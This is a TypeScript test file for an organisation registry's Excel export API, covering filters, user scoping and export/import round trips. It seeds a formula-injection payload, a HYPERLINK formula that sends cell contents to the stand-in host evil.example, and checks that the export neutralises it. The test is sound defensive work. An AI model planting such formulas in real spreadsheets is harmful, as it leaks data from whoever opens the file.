import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createHarness,
  type Harness,
  insertOrganisation,
  standardUsers,
  type TestClient,
} from '../../test/harness.js';
import { ORGANISATION_COLUMNS } from './columns-organisation.js';
import { download, dryRun, sheetCells, sheetRows } from './registry-io.test-support.js';

let h: Harness;
let u: Awaited<ReturnType<typeof standardUsers>>;
let officer: TestClient;
const EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';

beforeAll(async () => {
  h = await createHarness();
  u = await standardUsers(h);
  officer = await h.login('pofficer');
  const evil = await insertOrganisation(h, {
    regCode: '4900000010',
    name: EVIL,
    communeId: u.dongDang,
    kind: 'THT',
  });
  await h.database.db
    .updateTable('organisation')
    .set({
      phone: '+84 205 3812 345',
      address: '-Thôn Pò Mã',
      legal_rep_name: '@Hoàng Văn Bình',
      legal_rep_title: '+Tổ trưởng',
      governance: null,
      vsic_code: '0150',
      field: 'agriculture',
    })
    .where('id', '=', evil)
    .execute();
  await insertOrganisation(h, {
    regCode: '4900000011-001',
    name: 'Chi nhánh Hợp tác xã Chè Tân Thanh',
    communeId: u.sibling,
  });
});
afterAll(() => h.close());

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const regCodes = (rows: unknown[][]) =>
  rows
    .slice(1)
    .map((r) => String(r[0]))
    .sort();

describe('GET /api/registry/exports/organisations', () => {
  it('exports the organisations of the caller’s province in the template layout, as an attachment', async () => {
    const r = await download(h, officer, '/api/registry/exports/organisations');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe(XLSX);
    expect(r.headers.get('content-disposition')).toContain('attachment;');
    const rows = await sheetRows(r.bytes, 'Tổ chức');
    expect(rows[0]).toEqual(ORGANISATION_COLUMNS.map((c) => c.header));
    expect(regCodes(rows)).toEqual(['4900000001', '4900000002', '4900000010', '4900000011-001']);
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const r = await download(h, officer, '/api/registry/exports/organisations?q=hyperlink');
    const rows = await sheetCells(r.bytes, 'Tổ chức');
    expect(rows).toHaveLength(2);
    const cellOf = (key: string) => rows[1][ORGANISATION_COLUMNS.findIndex((c) => c.key === key)];
    expect(cellOf('name').type).toBe(ExcelJS.ValueType.String);
    expect(cellOf('name').formula).toBeUndefined();
    expect(cellOf('name').value).toBe(`'${EVIL}`);
    expect(cellOf('phone').value).toBe("'+84 205 3812 345");
    expect(cellOf('address').value).toBe("'-Thôn Pò Mã");
    expect(cellOf('legalRepName').value).toBe("'@Hoàng Văn Bình");
    expect(cellOf('legalRepTitle').value).toBe("'+Tổ trưởng");
    expect(cellOf('kind').value).toBe('Tổ hợp tác');
    expect(cellOf('vsicCode').value).toBe('0150');
    expect(cellOf('foundedOn').value).toEqual(new Date(Date.UTC(2020, 0, 15)));
    expect(cellOf('charterCapital').value).toBe(1_000_000_000);
  });

  it('imports back with no change (export → import is a no-op), the neutralised cells included', async () => {
    const exported = await download(h, officer, '/api/registry/exports/organisations');
    const r = await dryRun(officer, 'organisations', exported.bytes, 'export.xlsx');
    expect(r.status, r.text).toBe(201);
    expect(r.body.totals).toEqual({ rows: 4, valid: 4, invalid: 0, insert: 0, update: 0, unchanged: 4 });
    const c = await officer.post(`/api/registry/imports/${r.body.jobId}/commit`, { mode: 'all' });
    expect(c.body).toMatchObject({ inserted: 0, updated: 0, unchanged: 4 });
    const evil = await h.database.db
      .selectFrom('organisation')
      .select(['name', 'phone', 'version'])
      .where('reg_code', '=', '4900000010')
      .executeTakeFirstOrThrow();
    expect(evil).toEqual({ name: EVIL, phone: '+84 205 3812 345', version: 1 });
  });

  it('applies the list filters: kind, legal status, unit, name or code', async () => {
    const codesOf = async (query: string) =>
      regCodes(
        await sheetRows((await download(h, officer, `/api/registry/exports/organisations?${query}`)).bytes),
      );
    expect(await codesOf('kind=THT')).toEqual(['4900000010']);
    expect(await codesOf(`unitId=${u.sibling}`)).toEqual(['4900000002', '4900000011-001']);
    expect(await codesOf('q=che tan thanh')).toEqual(['4900000011-001']);
    expect(await codesOf('q=4900000001')).toEqual(
      ['4900000001', '4900000011-001'].filter((c) => c.startsWith('4900000001')),
    );
    expect(await codesOf('legalStatus=dissolved')).toEqual([]);
    expect(await codesOf('paperOnly=false')).toHaveLength(4);
    expect(await codesOf('paperOnly=true')).toEqual([]);
    expect(await codesOf('year=2024')).toEqual([]);
    expect((await download(h, officer, '/api/registry/exports/organisations?kind=XYZ')).status).toBe(400);
  });

  it('limits each caller to its scope: commune officer its commune, cooperative user itself, Ninh Bình its own', async () => {
    const codesAs = async (user: string) =>
      regCodes(
        await sheetRows(
          (await download(h, await h.login(user), '/api/registry/exports/organisations')).bytes,
        ),
      );
    expect(await codesAs('cofficer')).toEqual(['4900000001', '4900000010']);
    expect(await codesAs('coop')).toEqual(['4900000001']);
    expect(await codesAs('padmin.nb')).toEqual(['2700000003']);
    expect((await codesAs('national')).length).toBe(5);
  });
});
